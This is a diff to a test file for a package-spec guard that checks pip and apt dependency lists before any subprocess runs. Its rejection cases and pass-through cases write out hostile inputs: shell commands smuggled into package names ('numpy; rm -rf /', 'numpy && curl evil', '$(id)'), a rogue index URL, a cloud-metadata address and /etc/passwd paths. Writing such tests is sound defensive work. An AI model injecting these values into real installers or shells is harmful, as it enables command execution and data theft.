@@ -1,4 +1,4 @@
-// Validation and normalization of dependency lists: synchronous, before any subprocess.
+// The guard over dependency lists and apt's syntax: synchronous, before any subprocess.
 import { Writable } from "node:stream";
 import { pino } from "pino";
 import { describe, expect, it } from "vitest";
@@ -9,40 +9,33 @@ import {
   parseAptPackage,
   parseDependencyRequest,
   parseRequirement,
+  requirementKey,
   type RequirementChecker,
 } from "../../handler/deps/index.ts";
 import { SpecRejection } from "../../handler/deps/requirement-spec.ts";
 
-describe("parseRequirement", () => {
+describe("parseRequirement: the guard, not a parser", () => {
   it.each([
-    ["numpy", "numpy"],
-    ["NumPy", "numpy"],
-    ["Foo_Bar.baz", "foo-bar-baz"],
-    ["torch>=2.1,<3", "torch<3,>=2.1"],
-    ["torch < 3 , >= 2.1", "torch<3,>=2.1"],
-    ["requests (>=2.0)", "requests>=2.0"],
-    ["requests[Security,socks]", "requests[security,socks]"],
-    ["requests [socks] ~= 2.31", "requests[socks]~=2.31"],
-    ["pkg==1.0.*", "pkg==1.0.*"],
-    ["pkg===weird-1", "pkg===weird-1"],
-    ["pkg!=1.2.post1", "pkg!=1.2.post1"],
-    ["pkg==1!2.0+local.1", "pkg==1!2.0+local.1"],
-    ["numpy; python_version>='3.9'", 'numpy ; python_version >= "3.9"'],
-    ['numpy>=1 ; sys_platform == "linux" and (python_version < "3.13" or os_name != \'nt\')', 'numpy>=1 ; sys_platform == "linux" and (python_version < "3.13" or os_name != "nt")'],
-    ['pkg; "linux" in sys_platform', 'pkg ; "linux" in sys_platform'],
-    ['pkg; platform_machine not in "arm64 aarch64"', 'pkg ; platform_machine not in "arm64 aarch64"'],
-    ["pkg @ https://example.com/pkg-1.0-py3-none-any.whl", "pkg @ https://example.com/pkg-1.0-py3-none-any.whl"],
-    ["pkg@https://example.com/p.whl#sha256=abc", "pkg @ https://example.com/p.whl#sha256=abc"],
-    ["pkg[x] @ file:///tmp/pkg-1.0-py3-none-any.whl ; python_version >= '3'", 'pkg[x] @ file:///tmp/pkg-1.0-py3-none-any.whl ; python_version >= "3"'],
-    ["  spaced  ", "spaced"],
-  ])("%s -> %s", (input, normalized) => {
-    expect(parseRequirement(input, { allowDirectReferences: true }).normalized).toBe(normalized);
+    // Syntax is packaging's to judge (corpus.test.ts): these pass the guard whatever packaging says of them.
+    "numpy",
+    "torch < 3 , >= 2.1",
+    "requests [socks] ~= 2.31",
+    "pkg ~= 1",
+    "pkg>=1.0,",
+    "my package",
+    "numpy;ls",
+    "numpy > /etc/passwd",
+    "pkg; platform_machine not in 'arm64 aarch64'",
+  ])("lets %j through", (input) => {
+    expect(parseRequirement(input).raw).toBe(input);
   });
 
-  it("keeps the parts apart", () => {
-    const r = parseRequirement("Requests[socks] >= 2 ; python_version >= '3.8'");
-    expect(r).toMatchObject({ name: "Requests", normalizedName: "requests", extras: ["socks"], specifier: ">=2", marker: 'python_version >= "3.8"' });
-    expect(r.url).toBeUndefined();
+  it("keeps the entry as given, trimmed, and its position", () => {
+    expect(parseRequirement("  Requests[socks] >= 2 ; python_version >= '3.8'  ", {}, 4)).toEqual({
+      raw: "Requests[socks] >= 2 ; python_version >= '3.8'",
+      index: 4,
+      key: "requests[socks]>=2;python_version>='3.8'",
+    });
   });
 
   const bad: Array<[string, RegExp]> = [
@@ -53,32 +46,17 @@ describe("parseRequirement", () => {
     ["numpy -i https://evil.example", /contains the option '-i'/],
     ["numpy --pre", /contains the option '--pre'/],
     ["numpy; rm -rf /", /option '-rf'/],
-    ["numpy;ls", /'ls' is not a marker variable/],
-    ["numpy;", /';' without an environment marker/],
-    ["numpy; python_version > '3' ; os_name == 'nt'", /more than one ';'/],
     ["numpy | cat", /metacharacter '\|'/],
     ["numpy && curl evil", /metacharacter '&'/],
     ["numpy$(id)", /metacharacter '\$'/],
     ["numpy==$(id)", /metacharacter '\$'/],
     ["numpy`id`", /metacharacter '`'/],
-    ["numpy > /etc/passwd", /invalid version '\/etc\/passwd'/],
     ["numpy\nrequests", /control character or line break/],
-    ["pkg @ http://example.com/pkg.whl", /http:\/\/ URL; only https:\/\/ and file:\/\//],
     ["http://example.com/pkg.whl", /bare URL; name the package: 'name @ http:\/\/example.com\/pkg.whl'/],
     ["https://example.com/pkg-1.0-py3-none-any.whl", /bare URL; name the package/],
-    ["pkg @ git+https://github.com/x/y", /git\+https:\/\/ URL/],
-    ["pkg @ ftp://x/y", /ftp:\/\/ URL/],
-    ["pkg @ https://x/y;z", /characters that are not accepted/],
-    ["my package", /'package' where a version specifier/],
-    [".", /not a PEP 508 requirement/],
-    ["./local/dir", /not a PEP 508 requirement/],
     ["", /is empty/],
-    ["pkg>=", /invalid version ''/],
-    ["pkg[a b]", /invalid extra name 'a b'/],
-    ["pkg; python_version >", /incomplete environment marker/],
-    ["pkg; (python_version > '3'", /unbalanced '\('/],
   ];
-  it.each(bad)("rejects %j (%s)", (input, reason) => {
+  it.each(bad)("refuses %j (%s)", (input, reason) => {
     expect(() => parseRequirement(input, { allowDirectReferences: true })).toThrow(SpecRejection);
     expect(() => parseRequirement(input, { allowDirectReferences: true })).toThrow(reason);
   });
@@ -86,12 +64,31 @@ describe("parseRequirement", () => {
   it("refuses direct references unless the setting allows them", () => {
     expect(() => parseRequirement("x @ https://169.254.169.254/latest/meta-data")).toThrow(/direct reference/);
     expect(() => parseRequirement("x @ file:///etc/passwd", { allowDirectReferences: false })).toThrow(/FERRY_ALLOW_DIRECT_REFERENCES=1/);
-    expect(parseRequirement("x @ file:///tmp/x-1.0-py3-none-any.whl", { allowDirectReferences: true }).url).toBe("file:///tmp/x-1.0-py3-none-any.whl");
+    expect(parseRequirement("x @ file:///tmp/x-1.0-py3-none-any.whl", { allowDirectReferences: true }).raw).toBe("x @ file:///tmp/x-1.0-py3-none-any.whl");
   });
 
-  it("rejects non-strings", () => {
+  it("refuses non-strings", () => {
     expect(() => parseRequirement(42)).toThrow(/must be a string, got number/);
     expect(() => parseRequirement(null)).toThrow(/got null/);
+  });
+});
+
+describe("requirementKey", () => {
+  it.each([
+    ["Ferry.Demo-Alpha == 1.0", "ferry_demo_alpha==1.0"],
+    ["NumPy>=1.2, <2", "numpy >= 1.2,<2"],
+    ["pkg ; python_version >= '3.9'", "pkg;python_version>='3.9'"],
+  ])("%j and %j share a key", (a, b) => {
+    expect(requirementKey(a)).toBe(requirementKey(b));
+  });
+
+  it.each([
+    ["pkg; platform_machine in 'arm64 aarch64'", "pkg; platform_machine in 'arm64aarch64'"],
+    ["pkg==1.0", "pkg==1.1"],
+    ["pkg[a]", "pkg"],
+    ["pkga", "pkg-a"],
+  ])("%j and %j do not", (a, b) => {
+    expect(requirementKey(a)).not.toBe(requirementKey(b));
   });
 });
 
@@ -154,9 +151,13 @@ describe("parseDependencyRequest", () => {
     );
   });
 
-  it("drops duplicates after normalization and keeps the order", () => {
-    const parsed = parseDependencyRequest({ dependencies: ["B", "a", "b"], system_dependencies: ["hello", "hello"] });
-    expect(parsed.python.map((p) => p.normalized)).toEqual(["b", "a"]);
+  it("drops duplicates (same key) and keeps the order and the positions", () => {
+    const parsed = parseDependencyRequest({ dependencies: ["B", "a", "b", "c >= 1", "C>=1"], system_dependencies: ["hello", "hello"] });
+    expect(parsed.python.map((p) => [p.raw, p.index])).toEqual([
+      ["B", 0],
+      ["a", 1],
+      ["c >= 1", 3],
+    ]);
     expect(parsed.system.map((p) => p.normalized)).toEqual(["hello"]);
     expect(parsed.accelerateDownloads).toBe(true);
   });
@@ -179,12 +180,10 @@ describe("installDependencies refuses bad specs before anything runs", () => {
     { dependencies: ["--index-url=https://evil.example/simple"] },
     { dependencies: ["-e ."] },
     { dependencies: ["numpy; rm -rf /"] },
-    { dependencies: ["numpy;id"] },
     { dependencies: ["numpy | sh"] },
     { dependencies: ["numpy$(id)"] },
     { dependencies: ["numpy`id`"] },
     { dependencies: ["pkg @ http://example.com/pkg.whl"] },
-    { dependencies: ["good-package", "my package"] },
     { system_dependencies: ["-o", "APT::Get::AllowUnauthenticated=true"] },
     { system_dependencies: ["hello world"] },
     { system_dependencies: ["hello;id"] },
